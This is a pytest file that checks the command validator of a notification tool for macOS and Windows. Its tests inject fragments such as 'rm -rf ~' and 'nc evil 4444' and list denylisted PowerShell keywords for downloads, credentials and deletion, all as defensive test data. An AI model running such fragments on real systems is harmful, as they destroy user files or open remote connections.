import pytest

from claude_task_notifier.platforms import MacOSPlatform, WindowsPlatform
from claude_task_notifier.validation import validate_command

MAC = "osascript -e 'display notification \"Claude Task Completed!\" with title \"Claude Code\"'"
WIN = WindowsPlatform(system="win32").create_command("Completed")


def test_built_commands_pass():
    assert validate_command(MAC, "macos")
    assert validate_command(MacOSPlatform(system="darwin").create_command("Stopped", True), "macos")
    assert validate_command(WIN, "windows")


@pytest.mark.parametrize("fragment", ["; rm -rf ~", "| nc evil 4444", "&& curl evil", "|| wget x"])
def test_chaining_rejected_on_every_platform(fragment):
    mac = MAC[:-1] + fragment + "'"
    win = WIN[:-1] + fragment + '"'
    assert not validate_command(mac, "macos")
    assert not validate_command(win, "windows")


@pytest.mark.parametrize("value", [None, "", 123])
def test_non_string_rejected(value):
    assert not validate_command(value, "macos")


def test_unknown_platform_rejected():
    assert not validate_command(MAC, "linux")


def test_macos_prefix_and_suffix_required():
    assert not validate_command("osascript -e 'say hello'", "macos")
    assert not validate_command(MAC[:-1], "macos")


@pytest.mark.parametrize(
    "script",
    ["do shell script", "tell application \\\"Finder\\\"", "System Events", "run script"],
)
def test_macos_denylist(script):
    command = f"osascript -e 'display notification \"{script}\" with title \"Claude Code\"'"
    assert not validate_command(command, "macos")


def test_windows_prefix_requires_no_profile():
    assert not validate_command(WIN.replace(" -NoProfile", ""), "windows")


def test_windows_requires_closing_quote():
    assert not validate_command(WIN[:-1], "windows")


@pytest.mark.parametrize(
    "keyword",
    [
        "Invoke-Expression",
        "invoke-expression",
        "IEX ",
        "Invoke-WebRequest",
        "DownloadString",
        "Net.WebClient",
        "Start-Process",
        "$env:USERPROFILE",
        "Get-Credential",
        "Remove-Item",
    ],
)
def test_windows_denylist(keyword):
    command = f'powershell -NoProfile -Command "$balloon.BalloonTipText = \'{keyword}\'"'
    assert not validate_command(command, "windows")


def test_windows_only_notify_icon_may_be_created():
    bad = WIN.replace("New-Object System.Windows.Forms.NotifyIcon", "New-Object System.IO.FileInfo")
    assert not validate_command(bad, "windows")
